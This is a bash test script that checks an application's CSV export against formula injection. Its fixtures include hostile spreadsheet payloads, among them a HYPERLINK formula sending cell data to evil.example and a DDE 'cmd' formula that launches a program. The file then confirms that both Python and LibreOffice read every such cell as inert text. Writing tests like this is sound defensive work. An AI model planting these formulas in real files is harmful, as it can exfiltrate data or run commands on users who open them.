#!/usr/bin/env bash
# cli/csv_injection.sh: the CSV export holds no formula (OWASP "CSV
# injection"): a cell starting with = + - @, tab or CR is written after a
# "'"; a phone number such as +33 6 12 34 56 78 is kept as typed and read
# as text. Checked with Python's csv module, then with LibreOffice, which
# opens the file evaluating formulas (the test is skipped, status 77, when
# soffice is not installed, after the Python checks).
. "$(dirname "$0")/../lib.sh"

IMP=$WORK/imp
mkdir -p "$IMP"
python3 - "$IMP/in.csv" <<'PY'
import csv, sys
rows = [
    ('=HYPERLINK("http://evil.example/?d="&B3&C3,"clic")', "Jean", "+33 6 12 34 56 78", "a@b.example"),
    ("+SUM(1)", "-1+1", "+33.6.12.34.56.78", "=1+1"),
    ("@SUM(1)", "=cmd|' /C calc'!A0", "+33612345678", "@evil.example"),
    ("Martin", "-2", "+1-1", ""),
    ("Durand", "=1+1", "=2+3", "+x"),
    ("Petit", "Anne", "06 12 34 56 78", ""),
]
with open(sys.argv[1], "w", newline="", encoding="utf-8") as f:
    w = csv.writer(f)
    w.writerow(["nom", "prenom", "date_naissance", "telephone", "email"])
    for i, (last, first, phone, email) in enumerate(rows):
        w.writerow([last, first, "1980-01-%02d" % (i + 1), phone, email])
PY
run import 0 --db "$DB" --today $T import "$IMP/in.csv"
run export 0 --db "$DB" --today $T export --format csv --delimiter ';' --output "$WORK/out.csv"

# What each cell must read, as Python's csv module reads it.
cat >"$WORK/want.py" <<'PY'
want = {
    "last_name": {"'=HYPERLINK(\"http://evil.example/?d=\"&B3&C3,\"clic\")", "'+SUM(1)",
                  "'@SUM(1)", "Martin", "Durand", "Petit"},
    "first_name": {"Jean", "'-1+1", "'=cmd|' /C calc'!A0", "'-2", "'=1+1", "Anne"},
    # Phone numbers that can only be text are kept; the others marked.
    "phone": {"+33 6 12 34 56 78", "+33.6.12.34.56.78", "'+33612345678", "'+1-1",
              "'=2+3", "06 12 34 56 78"},
    "email": {"a@b.example", "'=1+1", "'@evil.example", "", "'+x"},
}
PY
same "csv cells" "$(python3 - "$WORK/out.csv" "$WORK/want.py" <<'PY'
import csv, sys
exec(open(sys.argv[2]).read())
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8-sig"), delimiter=";"))
for col, cells in want.items():
    got = {r[col] for r in rows}
    if got != cells:
        print(col, sorted(got - cells), "missing:", sorted(cells - got))
        break
else:
    bad = [c for r in rows for k, c in r.items() if c and c[0] in "=+-@\t\r"
           and not (k == "phone" and c.startswith("+33"))
           and k not in ("id", "stage_no", "days_in_stage")]
    print(len(rows), bad)
PY
)" "6 []"

# LibreOffice: opened with "evaluate formulas" on, converted to a flat
# OpenDocument file: no cell holds a formula, each holds the text above.
if ! command -v soffice >/dev/null; then
	echo "cli/csv_injection: soffice not installed: LibreOffice check skipped" >&2
	finished=1
	echo "$TEST_NAME: $passed passed, $failed failed (LibreOffice skipped)"
	[ "$failed" -eq 0 ] && exit 77
	exit 1
fi
# CSV filter: ';', '"', UTF-8 (76), from line 1, standard columns, en-US,
# quoted fields not forced to text, special numbers detected, ..., 13th
# token: evaluate formulas.
timeout 120 soffice -env:UserInstallation="file://$WORK/lo-profile" --headless \
	--infilter='CSV:59,34,76,1,,1033,false,true,false,false,false,-1,true' \
	--convert-to fods --outdir "$WORK/lo" "$WORK/out.csv" >"$WORK/lo.log" 2>&1
[ -s "$WORK/lo/out.fods" ] && ok || ko "soffice made no out.fods: $(tail -3 "$WORK/lo.log")"
same "libreoffice cells" "$(python3 - "$WORK/lo/out.fods" "$WORK/want.py" <<'PY'
import sys, xml.etree.ElementTree as ET
exec(open(sys.argv[2]).read())
T = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
O = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
X = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
def ptext(el):
    out = el.text or ""
    for ch in el:
        if ch.tag == "{%s}s" % X:
            out += " " * int(ch.get("{%s}c" % X, "1"))
        elif ch.tag == "{%s}tab" % X:
            out += "\t"
        else:
            out += ptext(ch)
        out += ch.tail or ""
    return out
def text(cell):
    return "\n".join(ptext(p) for p in cell.findall("{%s}p" % X))
def cells(row):
    out = []
    for c in row.findall("{%s}table-cell" % T):
        out += [c] * int(c.get("{%s}number-columns-repeated" % T, "1"))
    return out
rows = [cells(r) for r in ET.parse(sys.argv[1]).iter("{%s}table-row" % T)]
head = [text(c) for c in rows[0]]
formulas = [text(c) for r in rows for c in r if c.get("{%s}formula" % T)]
if formulas:
    print("formulas:", formulas)
    sys.exit()
for col, cells_want in want.items():
    i = head.index(col)
    got = set()
    for r in rows[1:]:
        c = r[i] if i < len(r) else None
        kind = c.get("{%s}value-type" % O) if c is not None else None
        got.add((text(c) if c is not None else "", kind or "string"))
    expect = {(w, "string") for w in cells_want if w} | ({("", "string")} if "" in cells_want else set())
    if got != expect:
        print(col, sorted(got - expect), "missing:", sorted(expect - got))
        sys.exit()
print("no formula", len(rows) - 1)
PY
)" "no formula 6"

finish
